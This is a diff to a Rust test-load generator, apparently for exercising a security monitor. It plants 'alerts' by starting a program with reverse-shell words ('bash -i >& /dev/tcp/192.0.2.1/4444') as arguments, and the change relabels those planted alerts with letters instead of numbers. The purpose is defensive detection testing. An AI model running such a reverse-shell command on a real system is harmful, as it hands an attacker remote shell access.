@@ -3,7 +3,7 @@
 //! | Name | Value |
 //! |---|---|
 //! | `execs`, `program` | starts of the program, each with the next serial number as `serial=N` |
-//! | `alerts` | starts of the program amid those, with `planted=N` and the words of a reverse shell |
+//! | `alerts` | starts of the program amid those, with `planted=a`, `planted=b` and so on and the words of a reverse shell: alerts that differ in numbers alone become a count |
 //! | `connections` | TCP connections over loopback, closed at once |
 //! | `files`, `directory` | files made there; of a hundred one stays |
 //! | `names` | questions to the domain name system, and answers, over loopback |
@@ -84,8 +84,9 @@ fn execs(count: u64, program: &str, alerts: u64) -> Outcome {
     for serial in 1..=count {
         run(&[&format!("serial={serial}")])?;
         if serial % every == 0 && planted < alerts {
+            let name = char::from(b'a' + (planted % 26) as u8);
             planted += 1;
-            run(&[&format!("planted={planted}"), "bash", "-i", ">&", "/dev/tcp/192.0.2.1/4444"])?;
+            run(&[&format!("planted={name}"), "bash", "-i", ">&", "/dev/tcp/192.0.2.1/4444"])?;
         }
     }
     Ok(())
